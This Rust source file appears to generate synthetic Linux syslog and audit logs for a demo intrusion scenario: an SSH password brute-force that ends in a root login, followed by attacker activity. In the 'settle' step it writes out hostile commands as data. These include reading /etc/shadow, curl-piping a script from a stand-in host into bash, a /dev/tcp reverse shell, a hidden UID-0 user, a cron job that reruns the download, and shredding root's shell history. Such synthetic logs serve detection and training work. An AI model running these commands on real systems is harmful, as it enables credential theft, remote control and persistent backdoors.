//! Lindebeke: passwords are guessed from outside until root's is found; then a foothold is laid.

use crate::demo::generate::Lines;
use crate::demo::generate::cast::attacker;
use crate::demo::generate::dice::Dice;
use crate::demo::generate::linux::{audit, syslog};
use crate::demo::generate::moment::{Day, Moment};

const HOST: &str = "lb-srv01";
const SOURCE: &str = "lindebeke-linux";
const GUESSED: &[&str] = &["root", "admin", "oracle", "test", "postgres", "backup", "git", "ubuntu"];
const GUESSES: i64 = 180;

pub fn tell(lines: &mut Lines, day: &Day, dice: &mut Dice) {
    let start = day.before_end(190);
    for guess in 0..GUESSES {
        let user = *dice.pick(GUESSED);
        refuse(lines, start.plus_s(guess * 3), user, dice);
    }
    let found = start.plus_s(GUESSES * 3 + 20);
    enter(lines, found, dice);
    settle(lines, found.plus_s(45), dice);
}

fn refuse(lines: &mut Lines, at: Moment, user: &str, dice: &mut Dice) {
    let tag = format!("sshd[{}]", dice.between(20_000, 32_000));
    let (from, port) = (attacker::SSH, dice.port());
    if user == "root" {
        let text = format!("Failed password for root from {from} port {port} ssh2");
        lines.push(SOURCE, at, syslog(86, at, HOST, &tag, &text));
        return;
    }
    let text = format!("Invalid user {user} from {from} port {port}");
    lines.push(SOURCE, at, syslog(86, at, HOST, &tag, &text));
    let text = format!("Failed password for invalid user {user} from {from} port {port} ssh2");
    lines.push(SOURCE, at.plus_ms(700), syslog(86, at, HOST, &tag, &text));
}

fn enter(lines: &mut Lines, at: Moment, dice: &mut Dice) {
    let text = format!("Accepted password for root from {} port {} ssh2", attacker::SSH, dice.port());
    lines.push(SOURCE, at, syslog(86, at, HOST, "sshd[31877]", &text));
    let opened = "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)";
    lines.push(SOURCE, at.plus_ms(50), syslog(86, at, HOST, "sshd[31877]", opened));
}

fn settle(lines: &mut Lines, at: Moment, dice: &mut Dice) {
    let steps: &[(&str, &[&str])] = &[
        ("/usr/bin/whoami", &["whoami"]),
        ("/usr/bin/cat", &["cat", "/etc/shadow"]),
        ("/usr/bin/curl", &["curl", "-s", "-o", "/tmp/.x", "http://203.0.113.99/x.sh"]),
        ("/usr/bin/chmod", &["chmod", "+x", "/tmp/.x"]),
        ("/usr/bin/bash", &["bash", "-c", "curl -s http://203.0.113.99/x.sh | bash"]),
        ("/usr/sbin/useradd", &["useradd", "-o", "-u", "0", "-m", "sysupd"]),
        ("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/203.0.113.99/4444 0>&1"]),
        ("/usr/bin/crontab", &["crontab", "-e"]),
        ("/usr/bin/shred", &["shred", "-u", "/root/.bash_history"]),
    ];
    for (index, (executable, arguments)) in steps.iter().enumerate() {
        audit(lines, HOST, at.plus_s(index as i64 * 20), dice, "0", executable, arguments);
    }
    let at = at.plus_s(110);
    let made = "new user: name=sysupd, UID=0, GID=0, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0";
    lines.push(SOURCE, at, syslog(86, at, HOST, "useradd[31940]", made));
    let at = at.plus_s(40);
    lines.push(SOURCE, at, syslog(78, at, HOST, "crontab[31966]", "(root) REPLACE (root)"));
    let at = at.plus_s(30);
    let job = "(root) CMD (curl -s http://203.0.113.99/x.sh | bash)";
    lines.push(SOURCE, at, syslog(78, at, HOST, "CRON[31990]", job));
}
